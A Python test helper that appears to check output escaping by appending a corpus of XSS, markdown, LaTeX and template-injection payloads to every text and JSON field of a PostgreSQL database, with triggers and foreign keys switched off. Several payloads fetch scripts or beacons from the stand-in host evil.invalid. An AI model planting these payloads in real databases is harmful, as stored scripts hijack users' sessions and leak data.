"""Hostile text, and how it gets into every place of the database that can hold text.

A new column of text is poisoned without being named; what is left out is named below, with the reason.
"""

from __future__ import annotations

import json
from typing import Any

import psycopg
import zstandard
from psycopg import sql
from psycopg.types.json import Jsonb

# Every element that one of these becomes bears `data-pwned`; every request goes to evil.invalid.
PAYLOADS = [
    '<script data-pwned>fetch("http://evil.invalid/1")</script>',
    "<img data-pwned src=http://evil.invalid/2.png onerror=alert(1)>",
    "<svg data-pwned onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    '"><script data-pwned src="//evil.invalid/3.js"></script>',
    "'><iframe data-pwned srcdoc='<script>parent.alert(1)</script>'></iframe>",
    '" autofocus onfocus=alert(1) data-pwned="',
    "' onmouseover=alert(1) data-pwned='",
    "</textarea></title></style></script></option></select><script data-pwned>alert(1)</script>",
    "--><details data-pwned open ontoggle=alert(1)>",
    "<form data-pwned action=//evil.invalid/4><button formaction=javascript:alert(1)>x</button></form>",
    '<base data-pwned href="//evil.invalid/"><meta data-pwned http-equiv=refresh content="0;url=//evil.invalid/5">',
    "<link data-pwned rel=stylesheet href=//evil.invalid/6.css><style data-pwned>@import'//evil.invalid/7.css'</style>",
    "<math><mtext><table><mglyph><style><!--</style><img data-pwned title='--><img src=1 onerror=alert(1)>'>",
    "![beacon](http://evil.invalid/8.png) [a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>)",
    "[c](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)> [d]: vbscript:alert(1)",
    r"$\href{javascript:alert(1)}{x}$ $\htmlData{pwned=1}{x}$ $\includegraphics{http://evil.invalid/9.png}$",
    '```html" onload=alert(1) data-pwned="\n<b data-pwned>\n```',
    "{{ 1337 * 7 }} ${1337 * 7} {% raw %} <%= 1337 * 7 %>",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \ufeff",
]
RESULT_OF_A_TEMPLATE = "9359"
CORPUS = "\n\n".join(PAYLOADS)

# What only the program writes, and reads again as a code: with something else in it nothing would be shown at all.
CODES = {
    "alembic_version.version_num",
    "api_tokens.scopes",
    "artifacts.sha256",
    "completions.content_hash",
    "idempotent_answers.key",
    "memberships.role",
    "passwords.hash",
    "projects.slug",
    "prompts.kind",
    "prompts.split",
    "quality_flags.check_name",
    "rankings.source",
    "runs.kind",
    "tasks.purpose",
    "users.role",
    "webhooks.events",
}
# The leaves of JSON that hold words of people and programs; the others are codes, numbers and ids.
WORDS = {
    "content",
    "text",
    "name",
    "label",
    "title",
    "description",
    "why",
    "note",
    "error",
    "message",
    "detail",
    "value",
}
COLUMNS = """
select c.table_name, c.column_name, c.udt_name from information_schema.columns c
join information_schema.tables t using (table_schema, table_name)
where c.table_schema = 'public' and t.table_type = 'BASE TABLE' and c.is_generated = 'NEVER'
  and c.udt_name in ('text', '_text', 'jsonb') order by 1, 2
"""


def poison(url: str) -> set[str]:
    """Append the corpus to every text of a database; returns which columns took it.

    Triggers and foreign keys sleep meanwhile. A column whose own rule refuses the corpus is a code, and safe.
    """
    taken = set()
    with psycopg.connect(url, autocommit=True) as connection:
        connection.execute("set session_replication_role = replica")
        for table, column, kind in connection.execute(COLUMNS).fetchall():
            name = f"{table}.{column}"
            if name not in CODES and poison_column(connection, table, column, kind):
                taken.add(name)
        if poison_datasets(connection):
            taken.add("dataset_pieces.lines")
    return taken


def poison_datasets(connection: psycopg.Connection[Any]) -> bool:
    """Whether the compressed lines of datasets took the corpus."""
    rows = connection.execute("select ctid::text, lines from dataset_pieces").fetchall()
    for place, lines in rows:
        hostile = [json.dumps(poisoned(json.loads(line))) for line in zstandard.decompress(lines).splitlines()]
        new = "".join(f"{line}\n" for line in hostile).encode()
        update = "update dataset_pieces set lines = %s, num_bytes = %s where ctid = %s::tid"
        connection.execute(update, [zstandard.compress(new), len(new), place])
    return bool(rows)


def poison_column(connection: psycopg.Connection[Any], table: str, column: str, kind: str) -> bool:
    """Whether the column took the corpus."""
    names = {"table": sql.Identifier(table), "column": sql.Identifier(column)}
    if kind == "jsonb":
        return poison_json(connection, names)
    changed = {"text": "{column} || %s::text", "_text": "array_append({column}, %s::text)"}[kind]
    update = sql.SQL("update {table} set {column} = " + changed + " where {column} is not null")
    try:
        return connection.execute(update.format(**names), [CORPUS]).rowcount > 0
    except (psycopg.errors.CheckViolation, psycopg.errors.UniqueViolation):
        return False


def poison_json(connection: psycopg.Connection[Any], names: dict[str, sql.Identifier]) -> bool:
    """Whether a leaf of the column took the corpus."""
    rows = connection.execute(sql.SQL("select ctid::text, {column} from {table}").format(**names)).fetchall()
    update = sql.SQL("update {table} set {column} = %s where ctid = %s::tid").format(**names)
    took = False
    for place, value in rows:
        hostile = poisoned(value)
        if "data-pwned" in json.dumps(hostile):
            took = connection.execute(update, [Jsonb(hostile), place]).rowcount > 0 or took
    return took


def poisoned(value: Any, key: str = "") -> Any:
    """The value with the corpus behind every word."""
    if isinstance(value, dict):
        return {name: poisoned(item, name) for name, item in value.items()}
    if isinstance(value, list):
        return [poisoned(item, key) for item in value]
    return f"{value}\n\n{CORPUS}" if isinstance(value, str) and key in WORDS else value
